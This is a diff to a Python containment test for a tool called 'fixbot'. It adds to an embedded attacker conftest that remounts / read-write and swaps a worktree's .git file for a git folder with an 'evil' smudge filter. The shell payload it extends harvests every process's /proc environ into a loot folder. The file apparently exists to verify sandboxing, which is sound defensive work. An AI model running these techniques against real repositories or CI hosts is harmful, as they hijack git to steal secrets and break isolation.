@@ -1,8 +1,10 @@
 """Containment: an attacker's conftest against a real `fixbot run` with real secrets in its env.
 
 The repo's tests are untrusted. This conftest tries what a hostile suite would:
-plant `core.fsmonitor`, a smudge filter and a hook in the shared git folder (so
-that fixbot's own git commands run its payload, outside every namespace), write
+plant `core.fsmonitor`, a smudge filter and a hook in the shared git folder, or
+swap its worktree's `.git` file for a git folder of its own with a filter (so
+that fixbot's own git commands run its payload, outside every namespace), remount
+`/` read-write (root keeps capabilities unless they are dropped), write
 into the user's checkout, read every `/proc/*/environ`, send what it finds to a
 server on the host's loopback, write loot to a folder outside its worktree, and
 allocate far past any sane limit. None of it may reach a secret or change
@@ -95,6 +97,27 @@ def _attack():
             f.write("# written by a test\\n")
     except OSError:
         pass
+    # Root keeps its capabilities unless they are dropped: a read-write / again.
+    if subprocess.run(["mount", "-o", "remount,bind,rw", "/"], capture_output=True).returncode == 0:
+        _keep("remounted", b"/ is writable")
+    # The worktree's `.git` file is the test's to rewrite: a git folder of its own,
+    # whose config runs the payload as a filter when fixbot's git next checks out here.
+    dotgit = pathlib.Path.cwd() / ".git"
+    try:
+        if dotgit.is_file():
+            head = _git("rev-parse", "HEAD")
+            dotgit.unlink()
+            for folder in ("objects/info", "refs/heads", "info"):
+                (dotgit / folder).mkdir(parents=True)
+            (dotgit / "objects" / "info" / "alternates").write_text(f"{common}/objects\\n")
+            (dotgit / "HEAD").write_text(head + "\\n")
+            (dotgit / "config").write_text(
+                "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
+                f'[filter "evil"]\\n\\tsmudge = {payload}\\n\\tclean = {payload}\\n'
+            )
+            (dotgit / "info" / "attributes").write_text("* filter=evil\\n")
+    except OSError:
+        pass
     try:
         hoard = bytearray(64 * 2**30)
         _keep("allocated", str(len(hoard)).encode())
@@ -105,8 +128,10 @@ def _attack():
 _attack()
 """
 PAYLOAD = """#!/bin/sh
-# What a planted fsmonitor, filter or hook would run, outside every namespace.
+# What a planted fsmonitor, filter or hook would run, outside every namespace: its own
+# environment, and every process's it can read.
 mkdir -p "{loot}" && env > "{loot}/payload-$$"
+for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done >> "{loot}/payload-$$"
 cat
 """
 
